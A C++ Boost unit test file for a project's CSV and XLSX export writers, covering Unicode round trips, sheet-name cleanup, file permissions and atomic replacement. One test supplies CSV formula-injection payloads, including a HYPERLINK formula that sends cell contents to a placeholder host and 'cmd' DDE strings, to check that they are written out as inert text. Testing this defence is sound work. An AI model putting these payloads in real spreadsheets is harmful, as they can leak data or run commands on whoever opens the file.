// Exports: write_xlsx / write_csv round trips through read_table, atomic replacement, permissions.
#include <boost/test/unit_test.hpp>
#include <sys/stat.h>

#include "tables/helpers.h"
#include "tables/table.h"
#include "support/temp_dir.h"

using namespace sanaq;
using namespace sanaq::tables;
using namespace sanaq::test::tables;
using Rows = std::vector<std::vector<std::string>>;

namespace {

const std::vector<std::string> kHeader = {"ИИН / ЖСН", "Фамилия", "Тегі", "Note; \"quoted\""};
const Rows kRows = {
    {"000123456789", "Жанбулатов", "Әбілқайыр-ұлы", "line 1\nline 2"},
    {"850101300123", "Иванова", "", "  edge spaces  "},
    {"", "Ёлкин", "Hемцы (Latin H)", "a;b,c\t\"d\""},
    {"1.0", "=1+1", "-5", "0042"},
};

std::size_t count_files(const std::filesystem::path& dir) {
    std::size_t n = 0;
    for (const auto& entry : std::filesystem::directory_iterator(dir)) {
        (void)entry;
        ++n;
    }
    return n;
}

unsigned permissions(const std::filesystem::path& path) {
    struct stat st {};
    ::stat(path.c_str(), &st);
    return st.st_mode & 0777;
}

}  // namespace

BOOST_AUTO_TEST_SUITE(writers)

BOOST_AUTO_TEST_CASE(xlsx_round_trip_keeps_digit_strings_and_cyrillic) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    auto path = dir / "export.xlsx";
    auto written = write_xlsx(path, kHeader, kRows, "Респонденты: список [1]");
    BOOST_REQUIRE_MESSAGE(written.has_value(), (written ? std::string() : std::string(written.error().message_id + " " + written.error().detail)));
    BOOST_TEST(count_files(dir.path()) == 1u);  // no temp or scratch files left behind
    BOOST_TEST(permissions(path) == 0600u);

    auto table = read_table(path);
    BOOST_REQUIRE_MESSAGE(table.has_value(), (table ? std::string() : std::string(table.error().message_id + " " + table.error().detail)));
    Rows expected = {kHeader};
    expected.insert(expected.end(), kRows.begin(), kRows.end());
    expected[3] = {"", "Ёлкин", "Hемцы (Latin H)", "a;b,c\t\"d\""};
    BOOST_TEST(table->rows == expected);
    BOOST_TEST(table->rows[1][0] == "000123456789");

    // Header bold, first row frozen, text-formatted columns, auto-filter: look at the parts.
    std::string bytes = sanaq::test::read_file(path);
    std::string sheet = unzip_part(bytes, "xl/worksheets/sheet1.xml");
    std::string styles = unzip_part(bytes, "xl/styles.xml");
    std::string workbook = unzip_part(bytes, "xl/workbook.xml");
    BOOST_TEST(sheet.find("ySplit=\"1\"") != std::string::npos);
    BOOST_TEST(sheet.find("state=\"frozen\"") != std::string::npos);
    BOOST_TEST(sheet.find("<autoFilter ref=\"A1:D5\"") != std::string::npos);
    BOOST_TEST(sheet.find("<col ") != std::string::npos);
    BOOST_TEST(styles.find("numFmtId=\"49\"") != std::string::npos);  // "@", Excel's text format
    BOOST_TEST(styles.find("<b/>") != std::string::npos);
    BOOST_TEST(workbook.find("name=\"Респонденты список 1\"") != std::string::npos);  // : [ ] dropped
}

BOOST_AUTO_TEST_CASE(xlsx_without_header_and_with_odd_sheet_names) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    for (std::string name : std::vector<std::string>{"", "History", "'quoted'", "a/b\\c?d*e[f]g:h", std::string(40, 'x'),
                             "Өте ұзын қазақша парақ атауы, отыз бір әріптен асады"}) {
        auto path = dir / "sheet.xlsx";
        auto written = write_xlsx(path, {}, {{"1", "2"}}, name);
        BOOST_REQUIRE_MESSAGE(written.has_value(),
                              "sheet name '" << name << "': " << (written ? std::string() : written.error().detail));
        auto table = read_table(path);
        BOOST_REQUIRE(table);
        BOOST_TEST(table->rows == (Rows{{"1", "2"}}));
    }
}

BOOST_AUTO_TEST_CASE(xlsx_cell_too_long_is_refused_before_writing) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    auto written = write_xlsx(dir / "long.xlsx", {"h"}, {{std::string(40000, 'a')}}, "S");
    BOOST_REQUIRE(!written);
    BOOST_TEST(written.error().code == ErrorCode::InvalidInput);
    BOOST_TEST(written.error().args.at(0) == "2");
    BOOST_TEST(count_files(dir.path()) == 0u);
}

BOOST_AUTO_TEST_CASE(csv_round_trip) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    auto path = dir / "export.csv";
    auto written = write_csv(path, kHeader, kRows);
    BOOST_REQUIRE(written);
    BOOST_TEST(count_files(dir.path()) == 1u);
    BOOST_TEST(permissions(path) == 0600u);

    std::string bytes = sanaq::test::read_file(path);
    BOOST_TEST(bytes.substr(0, 3) == "\xEF\xBB\xBF");
    BOOST_TEST(bytes.find("\"Note; \"\"quoted\"\"\"") != std::string::npos);
    BOOST_TEST(bytes.find("\r\n") != std::string::npos);

    auto table = read_table(path);
    BOOST_REQUIRE(table);
    BOOST_TEST(table->encoding == "UTF-8 BOM");
    BOOST_TEST(table->delimiter == kCsvDelimiter);
    Rows expected = {kHeader};
    expected.insert(expected.end(), kRows.begin(), kRows.end());
    expected[4][1] = "'=1+1";  // a formula comes back as the text it was written as (below)
    BOOST_TEST(table->rows == expected);
}

BOOST_AUTO_TEST_CASE(csv_cells_that_a_spreadsheet_would_run_as_formulas_are_written_as_text) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    auto path = dir / "export.csv";
    const Rows rows = {
        // What an attacker would type into a name, a note or an address.
        {"=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)", "+cmd|' /C calc'!A0",
         "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "  =1+1", "\n@A1", "-A1", "+ (A1)"},
        // Numbers, phone numbers and the marks of a kit inventory stay as they are.
        {"-5", "+7 701 555 0101", "+7 (701) 555-01-01", "-0,5", "+3.25", "+", "-", "1=1", "a@b.kz", "42"},
    };
    BOOST_REQUIRE(write_csv(path, {}, rows));
    auto table = read_table(path);
    BOOST_REQUIRE(table);
    BOOST_REQUIRE_EQUAL(table->rows.size(), 2u);
    Rows expected = rows;
    for (auto& cell : expected[0]) cell = "'" + cell;
    BOOST_TEST(table->rows[0] == expected[0], boost::test_tools::per_element());
    BOOST_TEST(table->rows[1] == rows[1], boost::test_tools::per_element());

    // The header is guarded the same way; XLSX needs no guard (every cell is a string cell).
    BOOST_REQUIRE(write_csv(path, {"=1+1", "Phone"}, {}));
    BOOST_TEST(sanaq::test::read_file(path) == "\xEF\xBB\xBF'=1+1;Phone\r\n");
    auto xlsx = dir / "export.xlsx";
    BOOST_REQUIRE(write_xlsx(xlsx, {}, rows, "x"));
    auto sheet = read_table(xlsx);
    BOOST_REQUIRE(sheet);
    BOOST_TEST(sheet->rows[0][0] == rows[0][0]);
}

BOOST_AUTO_TEST_CASE(replacing_an_existing_file_and_failing_cleanly) {
    sanaq::test::TempDir dir("sanaq-inv-write");
    auto path = dir / "report.csv";
    write_bytes(path, "old content");
    BOOST_REQUIRE(write_csv(path, {"a"}, {{"new"}}));
    auto table = read_table(path);
    BOOST_REQUIRE(table);
    BOOST_TEST(table->rows == (Rows{{"a"}, {"new"}}));

    auto missing_folder = write_csv(dir / "no-such-folder" / "x.csv", {"a"}, {});
    BOOST_REQUIRE(!missing_folder);
    BOOST_TEST(missing_folder.error().code == ErrorCode::Io);

    auto xlsx_missing_folder = write_xlsx(dir / "no-such-folder" / "x.xlsx", {"a"}, {}, "S");
    BOOST_REQUIRE(!xlsx_missing_folder);
    BOOST_TEST(xlsx_missing_folder.error().code == ErrorCode::Io);
    BOOST_TEST(count_files(dir.path()) == 1u);
}

BOOST_AUTO_TEST_SUITE_END()
